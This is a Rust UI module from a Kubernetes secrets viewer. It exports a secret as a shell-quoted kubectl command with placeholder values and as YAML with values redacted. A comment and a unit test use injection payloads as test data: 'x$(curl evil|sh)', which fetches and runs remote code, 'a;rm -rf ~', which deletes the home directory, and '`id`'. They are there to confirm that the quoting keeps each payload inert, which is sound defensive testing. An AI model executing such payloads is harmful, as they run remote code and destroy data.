//! What a secret's page exports: the kubectl command that recreates it
//! (values as placeholders) and its YAML (values redacted unless revealed).

use std::collections::BTreeMap;

use leptos::prelude::*;

use crate::{
    api::{RevealedValue, SecretDetail},
    ui::clipboard::{copy_to_clipboard, timers},
};

/// "Copy as kubectl command" (values as placeholders) and the YAML of the
/// secret with values redacted unless revealed.
#[component]
pub fn ExportPanel(
    detail: SecretDetail,
    revealed: RwSignal<BTreeMap<String, RevealedValue>>,
) -> impl IntoView {
    let d = StoredValue::new(detail);
    let command = move || d.with_value(kubectl_command);
    let yaml = move || d.with_value(|d| revealed.with(|r| secret_yaml(d, r)));
    view! {
        <h3>"kubectl command (values as placeholders)"</h3>
        <pre class="mono" data-testid="export-command">{command}</pre>
        <button type="button" class="button ghost" on:click=move |_| copy_to_clipboard(&command(), timers().clipboard_clear)>"Copy command"</button>
        <h3>"YAML (values redacted unless revealed)"</h3>
        <pre class="mono" data-testid="export-yaml">{yaml}</pre>
    }
}

/// The *Export* section of a secret's page, loaded when it opens.
pub async fn export_section(
    detail: SecretDetail,
    revealed: RwSignal<BTreeMap<String, RevealedValue>>,
) -> AnyView {
    view! { <ExportPanel detail revealed /> }.into_any()
}

/// One shell word, quoted for a POSIX shell whenever it needs it, so that
/// nothing in a name, key, label or type (`x$(curl evil|sh)`) and no
/// placeholder (`<password>` would be a redirection) is read as shell syntax.
pub fn shell_word(word: &str) -> String {
    shlex::try_quote(word)
        .map(|q| q.into_owned())
        // Only a NUL byte cannot be quoted; Kubernetes names never hold one.
        .unwrap_or_else(|_| "'<unprintable>'".into())
}

/// The kubectl command that creates this secret, with placeholders for
/// values; every word shell-quoted.
pub fn kubectl_command(d: &SecretDetail) -> String {
    let create = |kind: &str, rest: Vec<String>| {
        let mut words = vec![
            "kubectl".to_string(),
            "create".into(),
            "secret".into(),
            kind.into(),
            d.name.clone(),
            "-n".into(),
            d.namespace.clone(),
        ];
        words.extend(rest);
        words
            .iter()
            .map(|w| shell_word(w))
            .collect::<Vec<_>>()
            .join(" ")
    };
    match d.type_.as_str() {
        "kubernetes.io/dockerconfigjson" => create(
            "docker-registry",
            vec![
                "--docker-server=<server>".into(),
                "--docker-username=<username>".into(),
                "--docker-password=<password>".into(),
            ],
        ),
        "kubernetes.io/tls" => create(
            "tls",
            vec![
                "--cert=<tls.crt file>".into(),
                "--key=<tls.key file>".into(),
            ],
        ),
        _ => {
            let mut rest = Vec::new();
            if d.type_ != "Opaque" {
                rest.push(format!("--type={}", d.type_));
            }
            rest.extend(
                d.keys
                    .iter()
                    .map(|k| format!("--from-literal={}=<{}>", k.name, k.name)),
            );
            let mut command = create("generic", rest);
            for (k, v) in &d.labels {
                let label = [
                    "kubectl",
                    "label",
                    "secret",
                    &d.name,
                    "-n",
                    &d.namespace,
                    &format!("{k}={v}"),
                ]
                .iter()
                .map(|w| shell_word(w))
                .collect::<Vec<_>>()
                .join(" ");
                command.push_str(" && ");
                command.push_str(&label);
            }
            command
        }
    }
}

/// The secret as YAML; each value is the revealed base64 or `<redacted>`.
pub fn secret_yaml(d: &SecretDetail, revealed: &BTreeMap<String, RevealedValue>) -> String {
    let q = |s: &str| serde_json::to_string(s).unwrap_or_default();
    let mut out = format!(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: {}\n  namespace: {}\n",
        q(&d.name),
        q(&d.namespace)
    );
    if !d.labels.is_empty() {
        out.push_str("  labels:\n");
        for (k, v) in &d.labels {
            out.push_str(&format!("    {}: {}\n", q(k), q(v)));
        }
    }
    out.push_str(&format!("type: {}\n", q(&d.type_)));
    if d.immutable {
        out.push_str("immutable: true\n");
    }
    out.push_str("data:\n");
    for k in &d.keys {
        let value = revealed
            .get(&k.name)
            .map(|v| q(&v.base64))
            .unwrap_or_else(|| "<redacted>".into());
        out.push_str(&format!("  {}: {}\n", q(&k.name), value));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::KeyInfo;

    fn detail() -> SecretDetail {
        SecretDetail {
            namespace: "team-a".into(),
            name: "db".into(),
            type_: "Opaque".into(),
            keys: vec![
                KeyInfo {
                    name: "password".into(),
                    size: 7,
                },
                KeyInfo {
                    name: "user".into(),
                    size: 5,
                },
            ],
            labels: [("app".to_string(), "web".to_string())].into(),
            annotations: BTreeMap::new(),
            immutable: false,
            owners: vec![],
            created: None,
            resource_version: "1".into(),
            uid: None,
            owner: None,
        }
    }

    #[test]
    fn the_kubectl_command_has_placeholders_not_values() {
        let c = kubectl_command(&detail());
        assert!(c.starts_with("kubectl create secret generic db -n team-a '--from-literal=password=<password>' '--from-literal=user=<user>'"), "{c}");
        assert!(
            c.ends_with(" && kubectl label secret db -n team-a 'app=web'"),
            "{c}"
        );
    }

    #[test]
    fn every_part_of_the_kubectl_command_is_inert_in_a_shell() {
        let mut d = detail();
        d.type_ = "x$(curl evil|sh)".into();
        d.keys[0].name = "a;rm -rf ~".into();
        d.labels = [("app".to_string(), "`id`".to_string())].into();
        let c = kubectl_command(&d);
        // Split as a POSIX shell would: each dangerous part stays one word.
        let words = shlex::split(&c).expect("valid shell");
        assert!(
            words.contains(&"--type=x$(curl evil|sh)".to_string()),
            "{c}"
        );
        assert!(
            words.contains(&"--from-literal=a;rm -rf ~=<a;rm -rf ~>".to_string()),
            "{c}"
        );
        assert!(words.contains(&"app=`id`".to_string()), "{c}");
        assert!(
            words.contains(&"--from-literal=user=<user>".to_string()),
            "{c}"
        );
        assert!(!c.contains(" $(") && !c.contains(" `"), "{c}");
    }

    #[test]
    fn yaml_redacts_values_unless_revealed() {
        let mut revealed = BTreeMap::new();
        revealed.insert(
            "user".to_string(),
            RevealedValue {
                key: "user".into(),
                base64: "YWxpY2U=".into(),
                text: Some("alice".into()),
                size: 5,
            },
        );
        let y = secret_yaml(&detail(), &revealed);
        assert!(y.contains("\"password\": <redacted>"), "{y}");
        assert!(y.contains("\"user\": \"YWxpY2U=\""), "{y}");
        assert!(!y.contains("alice\n"), "{y}");
    }
}
